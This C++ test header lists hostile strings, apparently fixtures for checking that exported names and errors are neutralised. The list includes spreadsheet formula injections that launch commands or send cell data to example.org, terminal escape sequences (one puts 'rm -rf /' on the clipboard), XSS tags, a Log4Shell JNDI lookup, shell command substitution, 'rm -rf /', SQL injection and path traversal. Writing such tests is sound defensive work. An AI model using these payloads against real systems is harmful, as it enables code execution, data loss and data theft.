// Names and errors that try to be something else: formulas, terminal commands, markup, ends of
// line.
#pragma once

#include <string>
#include <vector>

namespace oct::testing {

inline std::vector<std::string> hostile_texts() {
    std::vector<std::string> all{
        "",
        " ",
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
        "=IMPORTXML(CONCAT(\"http://example.org/\",A1),\"//a\")",
        "+1+1",
        "+cmd|' /C notepad'!A1",
        "-1+1",
        "-2+3+cmd|' /C calc'!D2",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\x0b=1+1",
        "\x01=1+1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(A1)",
        "\"=1+1\"",
        "\";=1+1;\"",
        "a\"b\"c",
        "\"",
        "\"\"",
        "a;b",
        "a,b",
        ";=1",
        ",=1",
        "line\nbreak",
        "line\r\nbreak",
        "\r\n",
        "a\rb",
        "\x1b[2J\x1b[H",
        "\x1b[31mred",
        "\x1b]0;title\x07",
        "\x1b]8;;http://example.org\x1b\\link\x1b]8;;\x1b\\",
        "\x1b]52;c;cm0gLXJmIC8=\x07",
        "\x1bP$q\"p\x1b\\",
        "\x1b[6n",
        "\x1b[?1049h",
        "\x1b"
        "c",
        "\x07\x07\x07",
        "\x08\x08\x08hidden",
        "over\rwritten",
        "\x7f",
        "\xc2\x9b"
        "31m",
        "\xc2\x9d"
        "0;title\xc2\x9c",
        "\xc2\x85next line",
        "\x9b"
        "31m",
        "bad \xff\xfe bytes",
        "half \xe2\x82",
        "\xc0\xaf",
        "\xed\xa0\x80",
        "\xf4\x90\x80\x80",
        "tab\there",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "'\"><svg onload=alert(1)>",
        "{{template}}",
        "%s%s%s%n",
        "${jndi:ldap://example.org/a}",
        "$(touch /tmp/x)",
        "`id`",
        "; rm -rf /",
        "'; DROP TABLE result; --",
        "../../etc/passwd",
        std::string(10'000, 'A'),
        std::string(5'000, '='),
    };
    for (char c = 1; c < 0x20; ++c) all.push_back(std::string("a") + c + "b");
    for (char c = 1; c < 0x20; ++c) all.push_back(std::string(1, c) + "=1+1");
    return all;
}

}  // namespace oct::testing
